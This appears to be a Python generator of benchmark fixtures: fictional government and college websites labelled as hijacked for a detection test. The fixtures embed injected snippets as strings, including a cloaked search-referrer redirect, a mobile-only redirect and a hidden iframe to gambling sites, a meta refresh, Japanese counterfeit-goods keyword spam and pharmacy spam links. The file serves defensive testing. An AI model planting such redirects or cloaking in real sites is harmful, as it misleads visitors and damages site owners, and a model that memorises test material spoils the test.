        'var s=["baidu.com","sogou.com","so.com","sm.cn","bing.com","google.","toutiao.com"];'
        'for(var i=0;i<s.length;i++){if(r.indexOf(s[i])>-1){'
        f'setTimeout(function(){{window.location.replace(String.fromCharCode({codes}));}},100);break;}}}}}})();\n'
        '</script>'
    )
    menu = [
        ("机构概况", "jggk", ["单位简介", "领导信息", "内设机构", "直属单位"]),
        ("卫健动态", "wjdt", ["卫健要闻", "基层动态", "图片新闻"]),
        ("信息公开", "xxgk", ["政策文件", "规划计划", "财政资金", "人事信息", "卫生监督", "医疗机构", "统计信息"]),
        ("健康科普", "jkkp", ["疾病预防", "健康教育", "中医养生", "妇幼健康"]),
        ("办事服务", "bsfw", ["办事指南", "表格下载", "医师执业", "出生医学证明"]),
        ("互动交流", "hdjl", ["局长信箱", "咨询投诉", "网上调查"]),
    ]
    home = _zh_portal(
        site_name=name, title=name, keywords="清溪卫健,卫生健康,医疗服务", description="清溪县卫生健康局网站",
        cols=cols, menu=menu, sitecode="3311270033", icp="浙ICP备10211245号", police="33112702000411",
        head_extra=script, leader_box=False,
    )
    site = BlindSite("qxhealth", "wjj.qingxi.gov.cn", name, "zh", "search-referrer-only redirect (fromCharCode)", {"/": home},
                     full=Truth("hijacked", False, must_any=("hidden_links", "offsite_redirect", "cloaking"), newest=ago(1)),
                     home=Truth("hijacked", False, must_any=("hidden_links", "offsite_redirect", "cloaking"), newest=ago(1)))
    return _finish(site, cols)


# ---------------------------------------------------------------------------
# H7: human resources bureau: a redirect for mobile visitors only (to a gambling
# domain) and a 0x0 iframe of a gambling site.

_NEWS_HR = [
    "县人社局开展2026年冬季“送温暖”就业援助月活动", "我县举办2026年秋季大型人才招聘会", "县人社局开展根治欠薪冬季专项行动",
    "全县技能人才评价工作推进会召开", "我县新增省级技能大师工作室2家", "县人社局开展社保基金安全警示教育",
    "我县举办返乡创业培训班", "县劳动人事争议仲裁院开展“仲裁进园区”活动", "县人社局推进社会保障卡“一卡通”应用",
    "我县高校毕业生就业见习基地授牌", "县人社局召开人社服务快办行动推进会", "全县职业技能竞赛圆满落幕",
]


def _h7() -> BlindSite:
    name = "清溪县人力资源和社会保障局"
    cols = [
        Column("人社动态", "news", "rsdt", _mk(_NEWS_HR, [1, 2, 3, 6, 7, 10, 12, 15, 17, 20])),
        Column("通知公告", "notice", "tzgg", _mk(_NOTICE_ZH, [2, 7, 16, 26, 38, 57, 79, 104])),
        Column("就业创业", "other", "jycy", _mk(_NEWS_HR[3:] + _NEWS_HR[:3], [1, 4, 7, 10, 13, 16, 20, 24])),
        Column("人事考试", "personnel", "rsks", _mk(_PERSONNEL_ZH, [8, 29, 55, 84, 120, 160])),
    ]
    head = (
        '<script type="text/javascript">\n'
        'if(/Android|webOS|iPhone|iPod|iPad|BlackBerry|IEMobile|Opera Mini|Mobile/i.test(navigator.userAgent)){'
        'window.location.href="https://m.ky-sports88.com/?channel=rsj&t="+new Date().getTime();}\n'
        '</script>'
    )
    iframe = '<iframe src="https://www.hg8868.vip/index.html?agent=30021" width="0" height="0" frameborder="0" scrolling="no"></iframe>'
    menu = [
        ("机构概况", "jggk", ["单位简介", "领导信息", "内设机构"]),
        ("人社动态", "rsdt", ["人社动态", "就业创业", "社会保障", "劳动关系"]),
        ("信息公开", "xxgk", ["政策文件", "政策解读", "规划计划", "财政资金", "人事考试", "统计信息"]),
        ("办事服务", "bsfw", ["社保查询", "就业服务", "职称评审", "技能鉴定", "劳动仲裁", "表格下载"]),
        ("互动交流", "hdjl", ["局长信箱", "咨询投诉", "征集调查"]),
    ]
    home = _zh_portal(
        site_name=name, title=name, keywords="清溪人社,就业,社保", description="清溪县人力资源和社会保障局",
        cols=cols, menu=menu, sitecode="3311270041", icp="浙ICP备10213378号", police="33112702000507",
        head_extra=head, body_extra=iframe, leader_box=False,
    )
    site = BlindSite("qxhr", "rsj.qingxi.gov.cn", name, "zh", "mobile-only redirect + 0x0 gambling iframe", {"/": home},
                     full=Truth("hijacked", False, must_any=("hidden_links", "offsite_redirect"), newest=ago(1)),
                     home=Truth("hijacked", False, must_any=("hidden_links", "offsite_redirect"), newest=ago(1)))
    return _finish(site, cols)


# ---------------------------------------------------------------------------
# H8: a town portal with a meta refresh injected at the top of its template, to a
# gambling host (served on the farm: its landing page is GAMBLING_LANDING below).

REFRESH_TARGET_HOST = "www.amxpj-2025.com"

_GAMES = ["麻将胡了", "麻将胡了2", "赏金船长", "寻宝黄金城", "招财喵", "亡灵大盗", "金猪报财", "糖心风暴", "赏金女王", "宝石侠", "凤凰传奇", "双囍临门", "寻龙探宝", "唐伯虎点秋香", "冰火争霸", "嘻游记", "巫师之书", "亚斯特里亚", "埃及寻宝", "星旅淘金", "澳门百家乐", "极速百家乐", "咪牌百家乐", "龙虎斗", "骰宝", "轮盘", "炸金花", "斗地主", "抢庄牛牛", "二八杠", "德州扑克", "21点", "捕鱼达人", "李逵劈鱼", "金蟾捕鱼", "大圣闹海", "幸运飞艇", "北京赛车", "重庆时时彩", "极速快三", "香港六合彩", "澳门六合彩", "福彩3D", "排列三", "双色球", "大乐透", "足球滚球", "篮球让分", "电竞英雄联盟", "电竞王者荣耀", "网球", "乒乓球"]
GAME_WALL = '<div class="wall">' + "".join(
    f'<div class="game"><a href="/game/{i}"><img src="/static/g/{i}.png" alt="{g}"><span>{g}</span></a><em>RTP {96 + (i % 4) * 0.5:.1f}%</em>'
    f'<b class="hot">{"热门" if i % 3 == 0 else "新"}</b><a class="play" href="/login?game={i}">立即游戏</a><a class="try" href="/try/{i}">免费试玩</a></div>'
    for i, g in enumerate(_GAMES * 3)
) + "</div>"

GAMBLING_LANDING = """<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1,maximum-scale=1,user-scalable=no">
<title>澳门新葡京官网-澳门新葡京娱乐场|官方唯一指定入口</title>
<meta name="keywords" content="澳门新葡京,新葡京娱乐场,葡京官网,真人百家乐,体育投注">
<meta name="description" content="澳门新葡京娱乐场官网，亚洲最具公信力的线上娱乐平台，提供真人视讯、体育赛事、电子游艺、彩票、棋牌，注册即送88元彩金。">
<style>body{margin:0;background:#0b0b1a;color:#f5d27a;font-family:"PingFang SC",sans-serif}.hd{height:60px;background:#1a1030}
.btn{display:inline-block;padding:12px 40px;border-radius:30px;background:linear-gradient(#ffd36b,#d9a43a);color:#4a2a00;font-weight:bold}
.games li{float:left;width:25%}.kefu{position:fixed;right:0;bottom:120px}</style>
</head><body>
<div class="hd"><img src="/static/logo.png" alt="澳门新葡京"><a class="btn" href="/register?agent=8899">立即注册</a><a class="btn" href="/login">登录</a></div>
<div class="banner"><img src="/static/b1.jpg" alt="新会员首存送100%"><img src="/static/b2.jpg" alt="世界杯体育投注"></div>
<ul class="games"><li><a href="/live">真人视讯</a><p>百家乐 龙虎斗 轮盘 骰宝</p></li><li><a href="/sports">体育赛事</a><p>足球 篮球 电竞 滚球投注</p></li>
<li><a href="/slots">电子游艺</a><p>PG电子 麻将胡了 捕鱼达人 老虎机</p></li><li><a href="/lottery">彩票游戏</a><p>时时彩 六合彩 北京赛车 快三</p></li></ul>
{GAME_WALL}
<div class="promo"><h2>优惠活动</h2><p>新会员注册即送88元彩金，首存100%优惠，每日返水1.2%无上限，推荐好友再送彩金。</p>
<p>澳门新葡京娱乐场拥有菲律宾PAGCOR博彩牌照，资金安全有保障，提款3分钟到账。</p></div>
<div class="app"><a class="btn" href="https://dl.xpj-app.com/xpj.apk">下载APP</a> <a class="btn" href="/kefu">24小时在线客服</a></div>
<div class="ft">Copyright © 2026 澳门新葡京 版权所有 | 未满18岁禁止投注</div>
<div class="kefu"><a href="https://t.me/xpj_kefu8899">Telegram客服</a></div>
</body></html>""".replace("{GAME_WALL}", GAME_WALL)

_NEWS_TOWN = [
    "石桥镇召开2026年冬季安全生产工作会议", "镇党委书记带队督查农村人居环境整治", "石桥镇开展秋冬季秸秆禁烧巡查",
    "镇村干部开展困难群众走访慰问", "石桥镇举办农业技术培训班", "镇人大主席团开展民生实事项目视察",
    "石桥镇开展防范电信网络诈骗宣传进村入户", "镇综合行政执法队开展违建整治", "石桥镇召开村级组织换届工作部署会",
    "石桥镇美丽乡村精品村建设通过验收", "镇退役军人服务站开展走访慰问", "石桥镇开展冬季消防演练",
]


def _h8() -> BlindSite:
    name = "清溪县石桥镇人民政府"
    cols = [
        Column("镇务动态", "news", "zwdt", _mk(_NEWS_TOWN, [1, 2, 5, 6, 9, 12, 14, 17, 20, 23])),
        Column("通知公告", "notice", "tzgg", _mk(_NOTICE_ZH, [6, 14, 27, 45, 69, 93, 118, 150])),
        Column("村务公开", "other", "cwgk", _mk(_NEWS_TOWN[4:] + _NEWS_TOWN[:4], [3, 10, 18, 31, 46, 62])),
        Column("党建工作", "news", "djgz", _mk(_NEWS_TOWN[2:] + _NEWS_TOWN[:2], [2, 7, 11, 15, 19, 26])),
    ]
    head = f'<meta http-equiv="refresh" content="0; url=https://{REFRESH_TARGET_HOST}/?agent=8899">'
    menu = [
        ("走进石桥", "zjsq", ["石桥概况", "历史文化", "村居简介", "领导信息"]),
        ("镇务动态", "zwdt", ["镇务动态", "村居动态", "图片新闻"]),
        ("信息公开", "xxgk", ["通知公告", "村务公开", "财务公开", "规划计划", "人事信息"]),
        ("便民服务", "bmfw", ["办事指南", "表格下载", "便民电话"]),
        ("党建工作", "djgz", ["党建工作", "清廉石桥", "新时代文明实践"]),
    ]
    home = _zh_portal(
        site_name=name, title=name, keywords="石桥镇,石桥镇人民政府", description="清溪县石桥镇人民政府网站",
        cols=cols, menu=menu, sitecode="3311270105", icp="浙ICP备12044521号", police="33112702000633",
        head_extra=head, leader_box=False,
    )
    site = BlindSite("shiqiao", "www.shiqiao.qingxi.gov.cn", name, "zh", "meta refresh to a gambling host", {"/": home},
                     full=Truth("hijacked", False, must=("offsite_redirect",)),
                     home=Truth("hijacked", False, must=("offsite_redirect",)))
    _finish(site, cols)
    # the columns are not judged through a homepage that leaves the site
    site.columns.clear()
    return site


# ---------------------------------------------------------------------------
# English chrome (WordPress municipal / college themes)

_EN_DEPTS = ["Administration", "Assessor", "Animal Control", "Building Department", "Cemetery Commission", "Conservation Commission",
             "Emergency Management", "Facilities", "Finance", "Fire Marshal", "Health District", "Human Resources", "Information Technology",
             "Inland Wetlands", "Land Use", "Library", "Parks &amp; Recreation", "Planning &amp; Zoning", "Police", "Probate Court", "Public Works",
             "Registrars of Voters", "Senior Services", "Social Services", "Tax Collector", "Town Clerk", "Transfer Station", "Tree Warden",
             "Veterans Services", "Youth Services", "Zoning Board of Appeals", "Economic Development Commission"]
_EN_SERVICES = ["Pay Property Taxes", "Pay Water &amp; Sewer Bill", "Apply for a Building Permit", "Dog License", "Birth Certificates",
                "Marriage Licenses", "Death Certificates", "Absentee Ballots", "Beach Passes", "Transfer Station Sticker", "Parking Tickets",
                "Field Reservations", "Burn Permit", "Food Service License", "Septic Records", "Assessor Maps (GIS)", "Property Cards",
                "Bid Opportunities", "Job Openings", "Volunteer Boards", "Sign Up for Alerts", "Meeting Videos", "Annual Reports",
                "Budget Documents", "Grand List", "Plan of Conservation and Development", "Road Paving Plan", "Snow Plow Routes"]


def _en_bulk(site_name: str) -> str:
    depts = "".join(
        f'<li><a href="/departments/{d.lower().replace(" ", "-").replace("&amp;", "and")}/">{d}</a><span class="phone">(860) 555-{100 + i * 7:04d}</span></li>'
        for i, d in enumerate(_EN_DEPTS)
    )
    serv = "".join(f'<li><a href="/services/{i}/">{t}</a></li>' for i, t in enumerate(_EN_SERVICES))
    ld = ('<script type="application/ld+json">{"@context":"https://schema.org","@graph":[{"@type":"WebSite","@id":"/#website","url":"/","name":"'
          + site_name + '","potentialAction":[{"@type":"SearchAction","target":{"@type":"EntryPoint","urlTemplate":"/?s={search_term_string}"},'
          '"query-input":"required name=search_term_string"}],"inLanguage":"en-US"},{"@type":"GovernmentOrganization","name":"' + site_name
          + '","address":{"@type":"PostalAddress","streetAddress":"25 Main Street","addressRegion":"CT","postalCode":"06278"},"telephone":"+1-860-555-0142"}]}</script>')
    emoji = """<script>
window._wpemojiSettings = {"baseUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/15.0.3\\/72x72\\/","ext":".png","svgUrl":"https:\\/\\/s.w.org\\/images\\/core\\/emoji\\/15.0.3\\/svg\\/","svgExt":".svg","source":{"concatemoji":"\\/wp-includes\\/js\\/wp-emoji-release.min.js?ver=6.6.2"}};
/*! This file is auto-generated */
!function(i,n){var o,s,e;function c(e){try{var t={supportTests:e,timestamp:(new Date).valueOf()};sessionStorage.setItem(o,JSON.stringify(t))}catch(e){}}
function p(e,t,n){e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(t,0,0);var t=new Uint32Array(e.getImageData(0,0,e.canvas.width,e.canvas.height).data),
r=(e.clearRect(0,0,e.canvas.width,e.canvas.height),e.fillText(n,0,0),new Uint32Array(e.getImageData(0,0,e.canvas.width,e.canvas.height).data));
return t.every(function(e,t){return e===r[t]})}function u(e,t,n){switch(t){case"flag":return n(e,"\\ud83c\\udff3\\ufe0f\\u200d\\u26a7\\ufe0f","\\ud83c\\udff3\\ufe0f\\u200b\\u26a7\\ufe0f")?!1:!n(e,"\\ud83c\\uddfa\\ud83c\\uddf3","\\ud83c\\uddfa\\u200b\\ud83c\\uddf3");
case"emoji":return!n(e,"\\ud83d\\udc26\\u200d\\u2b1b","\\ud83d\\udc26\\u200b\\u2b1b")}return!1}
function f(e,t,n){var r="undefined"!=typeof WorkerGlobalScope&&self instanceof WorkerGlobalScope?new OffscreenCanvas(300,150):i.createElement("canvas"),
a=r.getContext("2d",{willReadFrequently:!0}),o=(a.textBaseline="top",a.font="600 32px Arial",{});return e.forEach(function(e){o[e]=t(a,e,n)}),o}
function t(e){var t=i.createElement("script");t.src=e,t.defer=!0,i.head.appendChild(t)}"undefined"!=typeof Promise&&(o="wpEmojiSettingsSupports",s=["flag","emoji"],
n.supports={everything:!0,everythingExceptFlag:!0},e=new Promise(function(e){i.addEventListener("DOMContentLoaded",e,{once:!0})}),
new Promise(function(t){var n=function(){try{var e=JSON.parse(sessionStorage.getItem(o));if("object"==typeof e&&"number"==typeof e.timestamp&&
(new Date).valueOf()<e.timestamp+604800&&"object"==typeof e.supportTests)return e.supportTests}catch(e){}return null}();if(!n){n=f(s,u,p);c(n)}t(n)})
.then(function(e){for(var t in e)n.supports[t]=e[t],n.supports.everything=n.supports.everything&&n.supports[t],"flag"!==t&&(n.supports.everythingExceptFlag=
n.supports.everythingExceptFlag&&n.supports[t]);n.supports.everythingExceptFlag=n.supports.everythingExceptFlag&&!n.supports.flag,n.DOMReady=!1,
n.readyCallback=function(){n.DOMReady=!0}}).then(function(){return e}).then(function(){var e;n.supports.everything||(n.readyCallback(),
(e=n.source||{}).concatemoji?t(e.concatemoji):e.wpemoji&&e.twemoji&&(t(e.twemoji),t(e.wpemoji)))}))}((window,document),window._wpemojiSettings);
</script>"""
    notify = ('<section class="notify-me"><h2>Stay Informed</h2><p>Sign up to receive emergency alerts, meeting agendas and news by email or text.</p>'
              '<form action="/notify-me/" method="post"><label for="nm-email">Email</label><input id="nm-email" type="email" name="email">'
              '<fieldset><legend>Lists</legend>' + "".join(f'<label><input type="checkbox" name="list" value="{i}"> {t}</label>' for i, t in enumerate(
                  ["Emergency Alerts", "Agendas", "News Flash", "Road Closures", "Bid Postings", "Job Postings", "Recreation Programs", "Library Events"]))
              + '</fieldset><button type="submit">Subscribe</button></form></section>')
    boards = "".join(
        f'<tr><td><a href="/boards/{i}/">{b}</a></td><td>{["1st", "2nd", "3rd", "4th"][i % 4]} {["Monday", "Tuesday", "Wednesday", "Thursday"][i % 4]} of each month, {6 + i % 2}:00 PM</td>'
        f'<td>{["Town Hall, Room 1", "Town Hall, Room 2", "Senior Center", "Library Community Room", "Virtual (Zoom)"][i % 5]}</td><td>{3 + i % 6} members</td></tr>'
        for i, b in enumerate(["Board of Selectmen", "Board of Finance", "Board of Education", "Planning &amp; Zoning Commission", "Zoning Board of Appeals",
                               "Inland Wetlands Agency", "Conservation Commission", "Economic Development Commission", "Historic District Commission",
                               "Parks &amp; Recreation Commission", "Library Board", "Board of Assessment Appeals", "Ethics Commission", "Housing Authority",
                               "Water Pollution Control Authority", "Senior Citizens Commission", "Youth Services Bureau", "Agriculture Commission",
                               "Open Space Committee", "Energy Committee", "Cemetery Commission", "Fire Commission", "Police Commission",
                               "Building Committee", "Charter Revision Commission", "Personnel Board", "Recycling Committee", "Trails Committee"])
    )
    faq = "".join(
        f'<details class="faq"><summary>{q}</summary><p>{a}</p></details>' for q, a in [
            ("When are property taxes due?", "Real estate and personal property taxes are due July 1 and January 1. Payments made after the first business day of August or February are charged interest at 1.5% per month."),
            ("How do I get a transfer station sticker?", "Bring your vehicle registration and proof of residency to the Town Clerk. Stickers are valid for the fiscal year."),
            ("Where can I find meeting agendas and minutes?", "Agendas are posted at least 24 hours before each meeting in the Agenda Center and on the bulletin board at Town Hall."),
            ("How do I report a pothole or a downed tree?", "Use Report a Concern online or call Public Works during business hours; after hours call the non-emergency police line."),
            ("Do I need a permit for a fence or shed?", "Fences over six feet and sheds over 200 square feet need a zoning permit and a building permit."),
            ("How do I register to vote?", "Register online with the Secretary of the State or in person at the Town Clerk's office or the Registrars of Voters."),
            ("Is there a senior tax relief program?", "Residents 65 and older who meet income limits may apply with the Assessor between February 1 and May 15."),
            ("How do I license my dog?", "Dogs six months and older must be licensed each June with proof of a current rabies vaccination."),
            ("Who plows my road?", "Town roads are plowed by Public Works; state routes are plowed by the Department of Transportation."),
            ("How can I request public records?", "Submit a Freedom of Information request to the department that keeps the record, or to the Town Clerk."),
        ])
    return (f'<section class="faqs"><h2>Frequently Asked Questions</h2>{faq}</section><section class="boards"><h2>Boards &amp; Commissions</h2><table><thead><tr><th>Board</th><th>Regular meetings</th><th>Location</th><th>Seats</th></tr></thead><tbody>{boards}</tbody></table></section>'
            f'<section class="directory"><h2>Departments</h2><ul class="dept-list">{depts}</ul></section>'
            f'<section class="popular"><h2>Popular Services</h2><ul>{serv}</ul></section>{notify}{ld}{emoji}')


def _en_page(*, title: str, desc: str, site_name: str, nav: list[tuple[str, list[str]]], posts: list[tuple[str, dt.date, str]],
             events: list[tuple[str, dt.date]], body_extra: str = "", footer_extra: str = "", head_extra: str = "",
             style_extra: str = "", news_slug: str = "news") -> str:
    navh = "".join(
        f'<li class="menu-item menu-item-has-children"><a href="/{m.lower().replace(" ", "-")}/">{m}</a><ul class="sub-menu">'
        + "".join(f'<li class="menu-item"><a href="/{m.lower().replace(" ", "-")}/{s.lower().replace(" ", "-").replace("&amp;", "and")}/">{s}</a></li>' for s in subs)
        + "</ul></li>"
        for m, subs in nav
    )
    cards = "".join(
        f'<article class="post type-post status-publish format-standard has-post-thumbnail"><a href="/{news_slug}/{slug}/"><img width="400" height="250" src="/wp-content/uploads/{d:%Y/%m}/{slug}-400x250.jpg" alt=""></a>'
        f'<div class="entry-meta"><time class="entry-date published" datetime="{d.isoformat()}T09:00:00-05:00">{d:%B} {d.day}, {d.year}</time></div>'
        f'<h3 class="entry-title"><a href="/{news_slug}/{slug}/" rel="bookmark">{t}</a></h3></article>'
        for t, d, slug in posts
    )
    evh = "".join(
        f'<li class="tribe-events-widget-events-list__event"><a href="/events/{i}/">{t}</a> <span class="tribe-event-date-start">{d:%B} {d.day}, {d.year} @ 6:00 pm</span></li>'
        for i, (t, d) in enumerate(events)
    )
    return f"""<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="UTF-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title}</title>
<meta name="description" content="{desc}">
<meta property="og:site_name" content="{site_name}">
<link rel="stylesheet" id="wp-block-library-css" href="/wp-includes/css/dist/block-library/style.min.css?ver=6.6.2" media="all">
<link rel="stylesheet" id="theme-style-css" href="/wp-content/themes/municipal/style.css?ver=3.2.1" media="all">
{head_extra}
<style id="wp-custom-css">
.skip-link{{position:absolute;left:-9999rem;top:2.5rem}}.skip-link:focus{{left:1rem;z-index:100000}}
.screen-reader-text{{border:0;clip:rect(1px,1px,1px,1px);clip-path:inset(50%);height:1px;margin:-1px;overflow:hidden;padding:0;position:absolute!important;width:1px;word-wrap:normal!important}}
.sub-menu{{display:none;position:absolute}}.menu-item-has-children:hover>.sub-menu{{display:block}}
.alert-bar{{background:#ffc72c;padding:.5rem 1rem}}.site-footer{{background:#10294a;color:#fff}}
{style_extra}
</style>
<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
</head>
<body class="home page-template-default page page-id-2 wp-embed-responsive">
<a class="skip-link screen-reader-text" href="#content">Skip to content</a>
<div class="alert-bar" role="region" aria-label="Announcement">Leaf collection runs through December 12. <a href="/public-works/leaf-collection/">See the schedule</a></div>
<header id="masthead" class="site-header"><div class="site-branding"><a href="/" rel="home"><img src="/wp-content/uploads/2023/05/logo.png" alt="{site_name}"></a></div>
<button class="menu-toggle" aria-controls="primary-menu" aria-expanded="false"><span class="screen-reader-text">Menu</span></button>
<nav id="site-navigation" class="main-navigation"><ul id="primary-menu" class="menu">{navh}</ul></nav>
<form role="search" method="get" class="search-form" action="/"><label><span class="screen-reader-text">Search for:</span><input type="search" class="search-field" name="s"></label></form>
</header>
<main id="content" class="site-main">
<section class="hero"><h1>Welcome to {site_name}</h1><p>Pay a bill, report a problem, or find a meeting: everything in one place.</p>
<div class="quick-links"><a href="/pay-online/">Pay Online</a><a href="/report-a-concern/">Report a Concern</a><a href="/agendas-minutes/">Agendas &amp; Minutes</a><a href="/jobs/">Employment</a><a href="/permits/">Permits</a><a href="/trash-recycling/">Trash &amp; Recycling</a></div></section>
<section class="latest-news"><h2>Latest News</h2><div class="posts-grid">{cards}</div><a class="more-link" href="/{news_slug}/">View all news</a></section>
<section class="events"><h2>Upcoming Events</h2><ul>{evh}</ul><a href="/events/">View calendar</a></section>
{body_extra}
</main>
{_en_bulk(site_name)}
<footer id="colophon" class="site-footer"><div class="footer-widgets">
<div class="widget"><h4>Contact</h4><p>{site_name}<br>25 Main Street<br>Phone: (860) 555-0142<br>Hours: Mon-Fri 8:30 am - 4:30 pm</p></div>
<div class="widget"><h4>Quick Links</h4><ul><li><a href="/foia/">Freedom of Information</a></li><li><a href="/accessibility/">Accessibility</a></li><li><a href="/privacy-policy/">Privacy Policy</a></li><li><a href="/sitemap/">Site Map</a></li></ul></div>
</div><div class="site-info">&copy; 2026 {site_name}. All rights reserved. Website by CivicWeb Design.</div>
{footer_extra}
</footer>
<script src="/wp-content/themes/municipal/js/navigation.js?ver=3.2.1" id="theme-navigation-js"></script>
</body></html>"""


def _en_list_page(site_name: str, heading: str, posts: list[tuple[str, dt.date, str]], slug: str = "news", head: str = "", body: str = "", title: str = "") -> str:
    arts = "".join(
        f'<article class="post"><h2 class="entry-title"><a href="/{slug}/{s}/">{t}</a></h2><div class="entry-meta">Posted on <time datetime="{d.isoformat()}">{d:%B} {d.day}, {d.year}</time></div>'
        f'<div class="entry-summary"><p>{t}. Read the full update from {site_name}.</p></div></article>'
        for t, d, s in posts
    )
    return (f'<!DOCTYPE html><html lang="en-US"><head><meta charset="UTF-8"><title>{title or heading + " - " + site_name}</title>{head}</head>'
            f'<body class="blog"><header><a href="/">{site_name}</a></header><main><h1 class="page-title">{heading}</h1>{arts}'
            f'<nav class="pagination"><span class="current">1</span><a href="/{slug}/page/2/">2</a><a class="next" href="/{slug}/page/2/">Next</a></nav>{body}</main>'
            f'<footer>&copy; 2026 {site_name}</footer></body></html>')


_EN_NAV_TOWN = [
    ("Government", ["Board of Selectmen", "Town Manager", "Town Clerk", "Boards &amp; Commissions", "Agendas &amp; Minutes", "Charter &amp; Ordinances", "Elections"]),
    ("Departments", ["Assessor", "Building", "Finance", "Fire", "Police", "Planning &amp; Zoning", "Public Works", "Parks &amp; Recreation", "Senior Center", "Library", "Tax Collector", "Health District"]),
    ("Residents", ["Trash &amp; Recycling", "Transfer Station", "Dog Licenses", "Voter Registration", "Emergency Alerts", "Property Records"]),
    ("Business", ["Economic Development", "Permits", "Bids &amp; RFPs", "Business Directory"]),
    ("How Do I", ["Pay a Tax Bill", "Apply for a Permit", "Report a Pothole", "Request Records", "Reserve a Pavilion"]),
]


def _h9() -> BlindSite:
    name = "Town of Ashford"
    posts_data = [
        ("Thanksgiving Holiday Hours for Town Hall and Transfer Station", 3, "thanksgiving-hours"),
        ("Winter Parking Ban Begins December 1", 6, "winter-parking-ban"),
        ("Board of Selectmen Adopts FY2027 Capital Plan", 9, "capital-plan-fy2027"),
        ("Route 44 Culvert Replacement Update", 13, "route-44-culvert"),
        ("Fall Leaf Collection Schedule Announced", 20, "leaf-collection"),
        ("Senior Center Flu Clinic a Success", 27, "flu-clinic"),
    ]
    posts = [(t, ago(a), s) for t, a, s in posts_data]
    events = [("Planning &amp; Zoning Commission Meeting", TODAY + dt.timedelta(days=4)), ("Holiday Tree Lighting", TODAY + dt.timedelta(days=15))]
    jp_title = "【楽天市場】ルイヴィトン 財布 スーパーコピー 激安通販専門店 - Town of Ashford"
    jp_desc = "ルイヴィトン スーパーコピー 財布、シャネル コピー バッグ、ロレックス スーパーコピー 時計 N級品 激安 通販。送料無料、代引き対応。"
    jp_links = [
        ("/?p=louisvuitton-copy-saifu", "ルイヴィトン スーパーコピー 財布 激安"), ("/?p=chanel-copy-bag", "シャネル バッグ コピー N級品"),
        ("/?p=rolex-super-copy", "ロレックス スーパーコピー 時計 代引き"), ("/?p=gucci-copy", "グッチ 偽物 通販"),
        ("https://www.brandcopy-jp.com/", "ブランドコピー 激安 通販専門店"), ("https://www.n-kyuhin.shop/", "スーパーコピー N級品 口コミ"),
        ("https://www.supakopi-tokei.jp.net/", "スーパーコピー 時計 優良店"), ("/?p=hermes-copy", "エルメス バーキン コピー 激安"),
    ]
    jp_block = ('<section class="widget widget_recent_entries"><h2>新着情報</h2><ul>'
                + "".join(f'<li><a href="{u}">{t}</a></li>' for u, t in jp_links) + "</ul></section>")
    home = _en_page(title=jp_title, desc=jp_desc, site_name=name, nav=_EN_NAV_TOWN, posts=posts, events=events,
                    body_extra=jp_block)
    pages = {"/": home, "/news/": _en_list_page(name, "News", posts)}
    jp_page = ('<!DOCTYPE html><html lang="ja"><head><meta charset="UTF-8"><title>ルイヴィトン スーパーコピー 財布 激安 N級品 通販</title></head><body>'
               '<h1>ルイヴィトン スーパーコピー 財布 激安通販</h1><p>当店はルイヴィトン スーパーコピー 財布、バッグ、時計のN級品を激安価格で販売しています。'
               '代引き対応、送料無料。シャネル コピー、エルメス 偽物、ロレックス スーパーコピーも多数取り扱い。</p>'
               '<ul><li><a href="https://www.brandcopy-jp.com/lv/">ヴィトン コピー 財布</a></li><li><a href="https://www.brandcopy-jp.com/chanel/">シャネル スーパーコピー</a></li></ul></body></html>')
    for p in ("/?p=louisvuitton-copy-saifu", "/?p=chanel-copy-bag", "/?p=rolex-super-copy", "/?p=gucci-copy", "/?p=hermes-copy"):
        pages[p] = jp_page
    for t, d, s in posts:
        pages[f"/news/{s}/"] = (f'<!DOCTYPE html><html lang="en-US"><head><meta charset="UTF-8"><title>{t} - {name}</title></head><body><article><h1>{t}</h1>'
                                f'<time datetime="{d.isoformat()}">{d:%B} {d.day}, {d.year}</time><p>{t}. Residents with questions may call Town Hall.</p></article></body></html>')
    site = BlindSite("ashford", "www.ashfordtownct.gov", name, "en", "Japanese keyword hack (title, description, links)", pages,
                     full=Truth("hijacked", False, must=("spam_content",), newest=ago(3)),
                     home=Truth("hijacked", False, must=("spam_content",), newest=ago(3)))
    site.columns["Latest News"] = ("news", ago(3), False)
    return site


def _h10() -> BlindSite:
    name = "Millbrook Community College"
    nav = [
        ("About", ["Mission &amp; Vision", "Leadership", "Board of Trustees", "Accreditation", "Campus Map", "Consumer Information"]),
        ("Academics", ["Programs of Study", "Course Catalog", "Academic Calendar", "Library", "Online Learning", "Honors Program", "Tutoring Center"]),
        ("Admissions", ["Apply Now", "Tuition &amp; Fees", "Financial Aid", "Scholarships", "Dual Enrollment", "International Students", "Visit Campus"]),
        ("Student Life", ["Clubs &amp; Organizations", "Athletics", "Counseling", "Disability Services", "Veterans Services", "Campus Safety"]),
        ("Workforce", ["Continuing Education", "Apprenticeships", "Business Training", "Nursing &amp; Allied Health"]),
    ]
    posts_data = [
        ("MCC Nursing Graduates Post 98% NCLEX Pass Rate", 2, "nclex-pass-rate"),
        ("Spring 2027 Registration Opens November 30", 5, "spring-2027-registration"),
        ("College Breaks Ground on Advanced Manufacturing Center", 8, "advanced-manufacturing-center"),
        ("Phi Theta Kappa Chapter Earns Five-Star Status", 14, "ptk-five-star"),
        ("Foundation Awards $1.2 Million in Scholarships", 19, "foundation-scholarships"),
        ("Fall Career Fair Draws 80 Employers", 30, "fall-career-fair"),
    ]
    posts = [(t, ago(a), s) for t, a, s in posts_data]
    events = [("Financial Aid Workshop", TODAY + dt.timedelta(days=3)), ("Winter Commencement", TODAY + dt.timedelta(days=21))]
    pharma = [
        ("https://www.rx-cheapmeds24.com/viagra", "buy viagra online"), ("https://www.rx-cheapmeds24.com/cialis", "cialis 20mg without prescription"),
        ("https://www.genericpills-store.net/levitra", "generic levitra cheap"), ("https://www.genericpills-store.net/tramadol", "tramadol overnight delivery"),
        ("https://www.sleepmeds-online.com/ambien", "buy ambien online no rx"), ("https://www.canadian-pharmacy-rx.org/", "canadian pharmacy viagra"),
        ("https://www.rx-cheapmeds24.com/kamagra", "kamagra oral jelly"), ("https://www.sleepmeds-online.com/xanax", "order xanax online"),
    ]
    block = ('<div class="wpfc-footer-cache"><p>Related: '
